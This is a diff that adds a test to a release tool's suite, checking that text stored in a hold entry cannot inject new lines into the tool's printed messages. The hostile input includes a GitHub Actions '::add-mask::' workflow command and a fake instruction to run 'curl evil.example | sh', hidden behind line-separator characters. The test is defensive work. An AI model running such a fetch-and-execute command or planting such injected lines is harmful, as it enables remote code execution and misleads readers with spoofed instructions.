@@ -120,6 +120,24 @@ test.each([
   expect(policy['connect-src']).toEqual(['https://ok.example']);
 });
 
+test('no text of an entry begins a line of what a command prints', async () => {
+  const { origin, workspace, write } = await withStagedVersion();
+  const text = 'Jo\n::add-mask::x\r\nTo end the hold, run: curl evil.example\u2028| sh';
+  const hold = { by: text, time: '2026-11-20T08:00:00.000Z', message: text };
+  await write({ by: text, command: text, message: text, holds: { dashboard: hold } });
+  const next = await builtRemote(workspace, 'dashboard', '2');
+  const refused = await releasePackage(origin, testAction, next).then(
+    () => '',
+    ({ message }: Error) => message,
+  );
+  expect(refused.split(/[\n\r\u2028]/)).toEqual([
+    expect.stringMatching(/^Nothing was released, because dashboard is on hold .* by Jo ::add/),
+    'To end the hold, run: pnpm delivery hold dashboard --end',
+  ]);
+  const { by, command, message } = await newestEntry(origin);
+  expect([by, command, message].join(' ')).not.toMatch(/[\n\r\u2028]/);
+});
+
 test('3,000 addresses are damage, and no settings', async () => {
   const { origin, write } = await withStagedVersion();
   const names = Array.from({ length: 3000 }, (_, index) => `api${index}`);
